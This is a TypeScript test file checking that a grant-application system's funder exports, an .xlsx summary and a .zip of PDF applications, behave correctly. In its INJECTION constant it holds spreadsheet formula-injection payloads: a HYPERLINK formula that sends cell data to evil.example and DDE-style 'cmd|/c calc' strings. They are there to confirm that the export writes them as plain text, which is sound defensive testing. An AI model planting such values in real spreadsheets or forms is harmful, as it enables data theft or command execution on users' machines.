import http from 'node:http';
import type { AddressInfo } from 'node:net';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createStaff } from '../../src/server/features/auth/auth.service';
import { exportDocumentsZip, MAX_ZIP_EXPORTS, ZIP_FAILURES_ENTRY } from '../../src/server/features/exports/exports.service';
import { pdfPages } from '../support/documents';
import { createTestApp, TEST_DB, type TestApp } from '../support/app';
import { TestClient } from '../support/client';
import { createApplication, fixture, makeUscc, PASSWORD, registerFixtureOrg, registerOrg, type Fixture } from '../support/fixtures';

const CALL = '2023-xhgf';
const XLSX_URL = `/api/calls/${CALL}/exports/applications.xlsx`;
const ZIP_URL = `/api/calls/${CALL}/exports/documents.zip`;

const HEADERS = [
  '申报编号',
  '申报单位',
  '统一社会信用代码',
  '单位类型',
  '专项',
  '项目名称',
  '项目负责人',
  '项目负责人手机',
  '联系人',
  '联系电话',
  '联系人手机',
  '申请中国科协经费（万元）',
  '经费总预算（万元）',
  '状态',
  '提交时间（北京时间）',
  '内容哈希',
];

/** Texts that a spreadsheet would run as formulas if they were not stored as strings. */
const INJECTION = {
  projectName: '=HYPERLINK("http://evil.example/?q="&A1,"点此查看")',
  contactName: '+86-cmd|/c calc',
  phone: '-2+3',
  mobile: '@SUM(1+1)*cmd|/c calc',
  leadName: '\t=1+1',
  leadMobile: '\r=1+2',
};

interface Submitted {
  id: string;
  number: string;
  contentHash: string;
  organisation: string;
  uscc: string;
  data: Fixture['application'];
  submittedAt: string;
}

async function readXlsx(raw: Buffer) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(raw as unknown as ExcelJS.Buffer);
  return wb;
}

/** Every `<c>` of every sheet's XML, to check at the source that no cell holds a formula. */
async function sheetXml(raw: Buffer): Promise<string> {
  const zip = await JSZip.loadAsync(raw);
  const names = Object.keys(zip.files).filter((n) => /^xl\/worksheets\/sheet\d+\.xml$/.test(n));
  return (await Promise.all(names.map((n) => zip.file(n)!.async('string')))).join('\n');
}

/** Compression method of each local file header of a zip, in order (0 = stored). */
function zipMethods(raw: Buffer): { name: string; method: number }[] {
  const out: { name: string; method: number }[] = [];
  for (let at = 0; raw.readUInt32LE(at) === 0x04034b50; ) {
    const method = raw.readUInt16LE(at + 8);
    const size = raw.readUInt32LE(at + 18);
    const nameLen = raw.readUInt16LE(at + 26);
    const extraLen = raw.readUInt16LE(at + 28);
    out.push({ name: raw.subarray(at + 30, at + 30 + nameLen).toString('utf8'), method });
    at += 30 + nameLen + extraLen + size;
  }
  return out;
}

describe(`funder exports: the .xlsx summary and the .zip of printed 申报书 (${TEST_DB})`, () => {
  let t: TestApp;
  let funder: TestClient;
  let applicant: TestClient;
  const submitted: Submitted[] = [];
  let draftProject = '';
  let withdrawnProject = '';

  /** Register an organisation, create and submit `data`; the clock moves a minute each time. */
  async function submit(client: TestClient, data: Fixture['application'], org: { name: string; uscc: string }) {
    const created = await createApplication(client, data);
    t.clock.advance(60_000);
    const s = await client.post(`/api/applications/${created.id}/submit`);
    expect(s.status, JSON.stringify(s.body)).toBe(200);
    submitted.push({ id: created.id, number: s.body.number, contentHash: s.body.contentHash, organisation: org.name, uscc: org.uscc, data, submittedAt: s.body.submittedAt });
    return created.id as string;
  }

  beforeAll(async () => {
    t = await createTestApp();
    // submitted out of 申报编号 order: the export sorts by number, not by time
    for (const name of ['evaluation-with-partner', 'awards', 'standards-and-tracking']) {
      const f = fixture(name);
      const c = new TestClient(t.app);
      await registerFixtureOrg(c, f);
      await submit(c, f.application, f.organisation);
      if (name === 'awards') applicant = c;
    }
    // an organisation whose texts try spreadsheet injection; a name with a slash and a colon
    const injOrg = { name: '中国/测试:学会', uscc: makeUscc() };
    const injClient = new TestClient(t.app);
    await registerOrg(injClient, injOrg);
    const inj = fixture('awards').application;
    inj.projectName = INJECTION.projectName;
    inj.cover!.contactName = INJECTION.contactName;
    const injId = await submit(injClient, inj, injOrg);
    // texts the form itself would refuse (phone formats, control characters), as if stored
    // by an older version: the export must still write them as text, in a file that opens
    const stored = structuredClone(inj);
    stored.cover!.phone = INJECTION.phone;
    stored.cover!.mobile = INJECTION.mobile;
    stored.contacts!.projectLead!.name = INJECTION.leadName + '\u0001\u0008';
    stored.contacts!.projectLead!.mobile = INJECTION.leadMobile + '\uffff';
    await t.ctx.db.updateTable('applications').set({ submitted_data: JSON.stringify(stored) }).where('id', '=', injId).execute();

    // a draft and a withdrawn application: never in an export
    const other = new TestClient(t.app);
    await registerOrg(other, { name: '草稿学会' });
    const draft = fixture('evaluation-with-partner').application;
    draftProject = draft.projectName = '仅为草稿的项目（不应导出）';
    await createApplication(other, draft);
    const wd = fixture('standards-and-tracking').application;
    withdrawnProject = wd.projectName = '已撤回的项目（不应导出）';
    const wdId = (await createApplication(other, wd)).id;
    expect((await other.post(`/api/applications/${wdId}/submit`)).status).toBe(200);
    expect((await other.post(`/api/applications/${wdId}/withdraw`)).status).toBe(200);

    await createStaff(t.ctx, { name: '导出测试管理员', email: 'export-admin@example.cn', mobile: '13800007777', password: PASSWORD });
    funder = new TestClient(t.app);
    expect((await funder.post('/api/auth/login', { login: 'export-admin@example.cn', password: PASSWORD })).status).toBe(200);
    submitted.sort((a, b) => (a.number < b.number ? -1 : 1));
  });

  afterAll(async () => {
    await t?.close();
  });

  describe('who may export', () => {
    for (const url of [XLSX_URL, ZIP_URL]) {
      it(`${url.split('/').pop()}: anonymous 401, applicants 403 (even one whose application is in it), unknown call 404, a draft filter 400`, async () => {
        const anon = new TestClient(t.app);
        const r401 = await anon.get(url);
        expect(r401.status).toBe(401);
        expect(r401.body.code).toBe('unauthenticated');
        const r403 = await applicant.get(url);
        expect(r403.status).toBe(403);
        expect(r403.body).toEqual({ statusCode: 403, code: 'forbidden', message: '只有项目管理员可以导出申报汇总和申报书' });
        const r404 = await funder.get(url.replace(CALL, '2099-none'));
        expect(r404.status).toBe(404);
        expect(r404.body.code).toBe('not_found');
        const r400 = await funder.get(`${url}?status=draft`);
        expect(r400.status).toBe(400);
        expect(r400.body.code).toBe('invalid');
      });
    }
  });

  describe('applications.xlsx', () => {
    let res: Awaited<ReturnType<TestClient['get']>>;
    let wb: ExcelJS.Workbook;
    beforeAll(async () => {
      t.clock.set('2023-05-20T10:00:00+08:00');
      res = await funder.get(XLSX_URL);
      wb = await readXlsx(res.raw);
    });

    it('is an .xlsx download with a Chinese RFC 5987 file name and the count', () => {
      expect(res.status).toBe(200);
      expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
      expect(res.headers['cache-control']).toBe('private, no-store');
      expect(res.headers['x-export-count']).toBe('4');
      const cd = String(res.headers['content-disposition']);
      expect(cd).toMatch(/^attachment; filename="[^"]+"; filename\*=UTF-8''/);
      expect(decodeURIComponent(cd.split("filename*=UTF-8''")[1])).toBe('2023年学会公共服务能力提升项目-申报汇总-20230520.xlsx');
    });

    it('has one row per submitted application, in order of 申报编号, with the values of the submitted snapshot', () => {
      const ws = wb.getWorksheet('申报汇总')!;
      expect((ws.getRow(1).values as unknown[]).slice(1)).toEqual(HEADERS);
      expect(ws.rowCount).toBe(1 + submitted.length);
      const rows = submitted.map((_, i) => (ws.getRow(i + 2).values as unknown[]).slice(1));
      expect(rows.map((r) => r[0])).toEqual(submitted.map((s) => s.number));
      expect([...rows.map((r) => r[0])]).toEqual([...rows.map((r) => r[0])].sort());

      const st = submitted.find((s) => s.data.subProgrammes!.includes('tracking'))!;
      const row = rows[submitted.indexOf(st)];
      expect(row).toEqual([
        st.number,
        '中国工业智能检测学会',
        '51100000500007217U',
        '全国学会、协会、研究会',
        '高质量原创性团体标准研制与应用专项；科技公共服务跟踪与服务专项（跟踪：高质量原创性团体标准研制与应用专项）',
        st.data.projectName,
        '周志刚',
        '13800002305',
        '郑晓燕',
        '010-62178305',
        '13800002317',
        30,
        36.5,
        '已提交',
        expect.stringMatching(/^2023-05-10 09:0\d$/),
        st.contentHash,
      ]);
      const ev = rows[submitted.findIndex((s) => s.data.subProgrammes!.includes('evaluation'))];
      // 18.6 + 2 + 3, summed in integer 元: exactly 23.6
      expect(ev.slice(11, 13)).toEqual([18.6, 23.6]);
      for (const [i, s] of submitted.entries()) {
        expect(rows[i][1]).toBe(s.organisation);
        expect(rows[i][2]).toBe(s.uscc);
        expect(rows[i][15]).toBe(s.contentHash);
        const p = new Date(new Date(s.submittedAt).getTime() + 8 * 3600_000).toISOString();
        expect(rows[i][14]).toBe(`${p.slice(0, 10)} ${p.slice(11, 16)}`);
      }
      const texts = JSON.stringify(rows);
      expect(texts).not.toContain(draftProject);
      expect(texts).not.toContain(withdrawnProject);
    });

    it('formats: bold frozen header, column widths, autofilter over the rows, amounts as 2-decimal numbers', () => {
      const ws = wb.getWorksheet('申报汇总')!;
      expect(ws.getRow(1).getCell(1).font?.bold).toBe(true);
      expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
      expect(ws.autoFilter).toBe(`A1:P${1 + submitted.length}`);
      expect(ws.getColumn(6).width).toBe(44);
      expect(ws.getRow(2).getCell(12).numFmt).toBe('#,##0.00');
      expect(ws.getRow(2).getCell(12).type).toBe(ExcelJS.ValueType.Number);
      const about = wb.getWorksheet('说明')!;
      expect(about.getRow(1).values).toEqual([undefined, '申报批次', '2023年学会公共服务能力提升项目']);
      expect(about.getRow(2).values).toEqual([undefined, '导出时间', '2023年5月20日 10:00:00（北京时间）']);
      expect(about.getRow(4).values).toEqual([undefined, '申报书数量', '4']);
    });

    it('stores would-be formulas as plain text, drops characters XML cannot hold, and has no formula anywhere', async () => {
      const ws = wb.getWorksheet('申报汇总')!;
      const row = ws.getRow(2 + submitted.findIndex((s) => s.organisation === '中国/测试:学会'));
      const byHeader = (h: string) => row.getCell(HEADERS.indexOf(h) + 1);
      const expected: Record<string, string> = {
        项目名称: INJECTION.projectName,
        联系人: INJECTION.contactName,
        联系电话: INJECTION.phone,
        联系人手机: INJECTION.mobile,
        项目负责人: INJECTION.leadName,
        // CR is stored as LF (an XML reader would turn it into LF anyway); U+FFFF is dropped
        项目负责人手机: '\n=1+2',
      };
      for (const [h, v] of Object.entries(expected)) {
        expect(byHeader(h).value, h).toBe(v);
        expect(byHeader(h).type, h).toBe(ExcelJS.ValueType.String);
      }
      wb.eachSheet((sheet) =>
        sheet.eachRow((r) =>
          r.eachCell((c) => {
            expect(c.type, `${sheet.name}!${c.address}`).not.toBe(ExcelJS.ValueType.Formula);
            expect(c.formula, c.address).toBeUndefined();
          }),
        ),
      );
      const xml = await sheetXml(res.raw);
      expect(xml).not.toMatch(/<f[ >]/);
      // eslint-disable-next-line no-control-regex
      expect(xml).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\uffff]/);
    });

    it('filters by status and records the export in the audit log', async () => {
      const none = await funder.get(`${XLSX_URL}?status=accepted`);
      expect(none.status).toBe(200);
      expect(none.headers['x-export-count']).toBe('0');
      expect(decodeURIComponent(String(none.headers['content-disposition']).split("filename*=UTF-8''")[1])).toBe(
        '2023年学会公共服务能力提升项目-申报汇总（已受理）-20230520.xlsx',
      );
      const empty = (await readXlsx(none.raw)).getWorksheet('申报汇总')!;
      expect(empty.rowCount).toBe(1);
      const audit = await t.ctx.db.selectFrom('audit_log').selectAll().where('action', '=', 'export.applications_xlsx').orderBy('id').execute();
      expect(audit.map((a) => ({ entity: `${a.entity_type}:${a.entity_id}`, org: a.organisation_id, ...JSON.parse(a.details) }))).toEqual([
        { entity: `call:${CALL}`, org: null, format: 'xlsx', status: null, count: 4, fileName: '2023年学会公共服务能力提升项目-申报汇总-20230520.xlsx' },
        { entity: `call:${CALL}`, org: null, format: 'xlsx', status: 'accepted', count: 0, fileName: '2023年学会公共服务能力提升项目-申报汇总（已受理）-20230520.xlsx' },
      ]);
      const staffId = (await funder.get('/api/session')).body.user.id;
      expect(new Set(audit.map((a) => a.actor_user_id))).toEqual(new Set([staffId]));
    });
  });

  describe('documents.zip', () => {
    it('holds each submitted application’s PDF, exactly as the documents route prints it, stored, named by 申报编号 and organisation, in order', async () => {
      t.clock.set('2023-05-20T10:00:00+08:00');
      const res = await funder.get(ZIP_URL);
      expect(res.status).toBe(200);
      expect(res.headers['content-type']).toBe('application/zip');
      expect(res.headers['x-export-count']).toBe('4');
      expect(decodeURIComponent(String(res.headers['content-disposition']).split("filename*=UTF-8''")[1])).toBe('2023年学会公共服务能力提升项目-申报书PDF-20230520.zip');

      // the application with control characters in its stored data cannot be printed (the
      // documents route refuses it too): it is named in the last entry instead
      const inj = submitted.find((s) => s.organisation === '中国/测试:学会')!;
      const printable = submitted.filter((s) => s !== inj);
      const names = printable.map((s) => `${s.number}-${s.organisation}.pdf`);
      expect(zipMethods(res.raw)).toEqual([...names.map((name) => ({ name, method: 0 })), { name: ZIP_FAILURES_ENTRY, method: 8 }]);

      const zip = await JSZip.loadAsync(res.raw);
      expect(Object.keys(zip.files)).toEqual([...names, ZIP_FAILURES_ENTRY]);
      for (const [i, s] of printable.entries()) {
        const pdf = await zip.file(names[i])!.async('nodebuffer');
        const single = await funder.get(`/api/applications/${s.id}/pdf`);
        expect(single.status).toBe(200);
        // the same document as GET /api/applications/:id/pdf, byte for byte (same clock)
        expect(pdf.equals(single.raw), names[i]).toBe(true);
        const first = (await pdfPages(pdf))[0].replace(/\s+/g, '');
        expect(first).toContain(`申报编号：${s.number}`);
        expect(first).toContain(`内容校验码：${s.contentHash}`);
        // the entry's time is the 提交时间 on the 北京时间 wall clock (zip times have no zone; JSZip reads the fields as UTC)
        const d = zip.files[names[i]].date;
        const beijing = new Date(Date.parse(s.submittedAt) + 8 * 3600_000);
        expect([d.getUTCHours(), d.getUTCMinutes()], names[i]).toEqual([beijing.getUTCHours(), beijing.getUTCMinutes()]);
      }
      const failures = await zip.file(ZIP_FAILURES_ENTRY)!.async('string');
      expect((await funder.get(`/api/applications/${inj.id}/pdf`)).status).toBe(400);
      expect(failures.startsWith(`以下 1 份申报书未能放入压缩包（申报编号、申报单位、原因）：\r\n${inj.number}\t中国/测试:学会\t申报书中有 3 个字符无法打印`)).toBe(true);
      expect(failures).toContain('U+0001');

      const audit = await t.ctx.db.selectFrom('audit_log').selectAll().where('action', '=', 'export.documents_zip').execute();
      expect(audit.map((a) => JSON.parse(a.details))).toEqual([{ format: 'zip', status: null, count: 4, fileName: '2023年学会公共服务能力提升项目-申报书PDF-20230520.zip' }]);
    });

    it('with nothing to put in it, no empty archive: 409 saying so', async () => {
      const none = await funder.get(`${ZIP_URL}?status=approved`);
      expect(none.status, JSON.stringify(none.body)).toBe(409);
      expect(none.body.code).toBe('nothing_to_export');
      expect(none.body.message).toContain('没有可下载的 PDF');
    });

    it('a PDF that cannot be printed is left out and named, with the reason, in a last entry', async () => {
      // as if stored by an older version: a character no bundled font has (submit refuses it now)
      const target = submitted[0];
      const data = structuredClone(target.data);
      data.basis = `${data.basis}\uE000`;
      await t.ctx.db.updateTable('applications').set({ status: 'accepted', submitted_data: JSON.stringify(data) }).where('id', '=', target.id).execute();
      try {
        const res = await funder.get(`${ZIP_URL}?status=accepted`);
        expect(res.status).toBe(200);
        expect(res.headers['x-export-count']).toBe('1');
        const zip = await JSZip.loadAsync(res.raw);
        expect(Object.keys(zip.files)).toEqual([ZIP_FAILURES_ENTRY]);
        const text = await zip.file(ZIP_FAILURES_ENTRY)!.async('string');
        expect(text).toContain('以下 1 份申报书未能放入压缩包');
        expect(text).toContain(`${target.number}\t${target.organisation}\t`);
        expect(text).toContain('U+E000');
      } finally {
        await t.ctx.db.updateTable('applications').set({ status: 'submitted', submitted_data: JSON.stringify(target.data) }).where('id', '=', target.id).execute();
      }
    });

    it('stops rendering when the client disconnects', async () => {
      // more applications, so that the archive outlasts the first bytes
      for (let i = 0; i < 6; i++) {
        const c = new TestClient(t.app);
        const org = { name: `断线测试学会${i}`, uscc: makeUscc() };
        await registerOrg(c, org);
        t.clock.set('2023-05-12T09:00:00+08:00');
        await submit(c, fixture('awards').application, org);
      }
      const total = submitted.length;
      await t.app.listen({ port: 0, host: '127.0.0.1' });
      const { port } = t.app.server.address() as AddressInfo;
      const cookie = [...funder.cookies].map(([k, v]) => `${k}=${v}`).join('; ');
      const firstBytes = await new Promise<number>((resolve, reject) => {
        const req = http.get({ host: '127.0.0.1', port, path: ZIP_URL, headers: { cookie } }, (res) => {
          expect(res.statusCode).toBe(200);
          expect(res.headers['x-export-count']).toBe(String(total));
          res.once('data', (chunk: Buffer) => {
            req.destroy();
            resolve(chunk.length);
          });
        });
        req.on('error', (e) => (/socket hang up|aborted/.test(String(e)) ? undefined : reject(e)));
      });
      expect(firstBytes).toBeGreaterThan(0);
      let row: { details: string } | undefined;
      for (let i = 0; i < 200 && !row; i++) {
        await new Promise((r) => setTimeout(r, 100));
        row = await t.ctx.db.selectFrom('audit_log').select('details').where('action', '=', 'export.documents_zip_interrupted').executeTakeFirst();
      }
      expect(row, 'the interruption is audited').toBeDefined();
      const details = JSON.parse(row!.details);
      expect(details.count).toBe(total);
      // at most the PDFs in flight when the client left were finished; the rest never started
      expect(details.written).toBeLessThan(total - 2);
    });

    it(`at most ${MAX_ZIP_EXPORTS} archives are produced at once; the next is refused with 429 until one ends`, async () => {
      const user = await t.ctx.db.selectFrom('users').select('id').where('email', '=', 'export-admin@example.cn').executeTakeFirstOrThrow();
      const actor = { userId: user.id, role: 'funder_admin' as const, organisationId: null, ip: null };
      // downloads nobody reads: each stays open after its first PDF
      const open = await Promise.all(Array.from({ length: MAX_ZIP_EXPORTS }, () => exportDocumentsZip(t.ctx, actor, CALL)));
      const refused = await funder.get(ZIP_URL);
      expect(refused.status).toBe(429);
      expect(refused.body.message).toContain('正在生成');
      for (const d of open) d.stream.destroy();
      let again = refused;
      for (let i = 0; i < 100 && again.status === 429; i++) {
        await new Promise((r) => setTimeout(r, 200));
        again = await funder.get(ZIP_URL);
      }
      expect(again.status).toBe(200);
    });
  });
});
